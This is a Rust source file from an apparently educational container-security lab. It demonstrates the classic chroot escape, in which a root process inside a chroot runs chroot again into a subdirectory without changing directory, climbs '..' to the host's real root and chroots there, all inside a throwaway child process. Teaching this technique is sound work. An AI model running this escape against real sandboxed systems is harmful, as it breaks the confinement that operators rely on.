//! `ch01-chroot escape ROOTFS`: chroot is not isolation.
//!
//! The kernel stops `..` at a process's root directory, and nowhere else. `chroot(2)`
//! changes the root but not the working directory. So a root process inside a chroot
//! can chroot into a subdirectory *without* `cd`-ing into it: its working directory
//! is now outside its root, and `..` from there climbs, unstopped, to the host's real
//! `/`. A final `chroot(".")` makes that the root again. Nothing is written: the
//! demonstration only changes the root of a throwaway child process.

use std::os::unix::fs::MetadataExt;
use std::path::Path;

use labkit::failure::Context;
use labkit::narrate;
use labkit::privilege::require_root;
use labkit::{Failure, Result};
use nix::unistd::{ForkResult, chdir, chroot, fork};

use crate::chroot_run::{TOOL, check_rootfs, wait_for};

/// The identity of a directory: (device, inode).
fn identity(path: &str) -> std::io::Result<(u64, u64)> {
    std::fs::metadata(path).map(|m| (m.dev(), m.ino()))
}

fn listing(path: &str) -> String {
    let mut names: Vec<String> = std::fs::read_dir(path)
        .into_iter()
        .flatten()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names.join(" ")
}

fn show(id: (u64, u64)) -> String {
    let dev = nix::sys::stat::major(id.0);
    let minor = nix::sys::stat::minor(id.0);
    format!("device {dev}:{minor}, inode {}", id.1)
}

pub fn escape(rootfs: &Path) -> Result<i32> {
    let root = check_rootfs(rootfs)?;
    require_root("chroot(2) needs CAP_SYS_CHROOT")?;
    let host_root = identity("/").context(|| "stat /".into())?;
    // On the host this is the real /; in a chapter 02 container, the container's.
    println!("Before the chroot, our / is {}.", show(host_root));
    use std::io::Write as _;
    let _ = std::io::stdout().flush();
    // SAFETY: this program is single-threaded, so the child may do anything.
    match unsafe { fork() }.context(|| "fork".into())? {
        ForkResult::Child => {
            let code = match break_out(&root, host_root) {
                Ok(escaped) => i32::from(!escaped),
                Err(failure) => {
                    eprintln!("{TOOL}: {failure}");
                    1
                }
            };
            let _ = std::io::stdout().flush();
            // SAFETY: _exit ends the child without running the parent's exit handlers.
            unsafe { libc::_exit(code) }
        }
        ForkResult::Parent { child } => {
            let code = wait_for(child)?;
            if code == 0 {
                println!(
                    "chroot is not isolation: a root process inside can chroot again and walk out."
                );
                println!(
                    "Chapter 02 closes the hole: pivot_root(2) in a mount namespace leaves no old root to reach."
                );
            } else {
                println!(
                    "The escape did not work here (exit {code}): something took away chroot(2) inside."
                );
            }
            Ok(code)
        }
    }
}

// ANCHOR: break_out
/// In the child: enter the chroot, then leave it. True when we reached the `/` we had
/// before the chroot (the host's, unless we already run in a container).
fn break_out(root: &Path, host_root: (u64, u64)) -> Result<bool> {
    narrate::step(
        format!("chroot({root:?})"),
        format!("chroot {}", root.display()),
    );
    chroot(root).context(|| "chroot".into())?;
    narrate::step("chdir(\"/\")", "cd /");
    chdir("/").context(|| "chdir /".into())?;
    let inside = identity("/").context(|| "stat /".into())?;
    println!(
        "Inside the chroot, / is {} and holds: {}",
        show(inside),
        listing("/")
    );

    let sub = ["tmp", "proc", "etc", "bin"]
        .into_iter()
        .find(|d| std::fs::symlink_metadata(d).is_ok_and(|m| m.is_dir()))
        .ok_or_else(|| {
            Failure::new(format!(
                "{} has no subdirectory to chroot into",
                root.display()
            ))
        })?;
    // ANCHOR: hole_escape
    narrate::note(format!(
        "we are still root, so chroot(2) works again: into /{sub}, but without cd-ing there"
    ));
    narrate::step(
        format!("chroot({sub:?})"),
        format!("chroot {sub}   # and no cd"),
    );
    chroot(sub).context(|| "chroot".into())?;
    narrate::note("our working directory is now outside our root, so `..` is never stopped");

    let mut climbs = 0;
    while identity(".").context(|| "stat .".into())?
        != identity("..").context(|| "stat ..".into())?
        && climbs < 256
    {
        chdir("..").context(|| "chdir ..".into())?;
        climbs += 1;
    }
    narrate::step(
        format!("chdir(\"..\") x {climbs}"),
        "cd ..   # until . and .. are the same directory",
    );
    narrate::step("chroot(\".\")", "chroot .");
    chroot(".").context(|| "chroot .".into())?;
    chdir("/").context(|| "chdir /".into())?;
    // ANCHOR_END: hole_escape

    let now = identity("/").context(|| "stat /".into())?;
    let escaped = now == host_root;
    println!(
        "After the escape, / is {} and holds: {}",
        show(now),
        listing("/")
    );
    if escaped {
        println!("That is the / we had before the chroot: we are out.");
    }
    Ok(escaped)
}
// ANCHOR_END: break_out
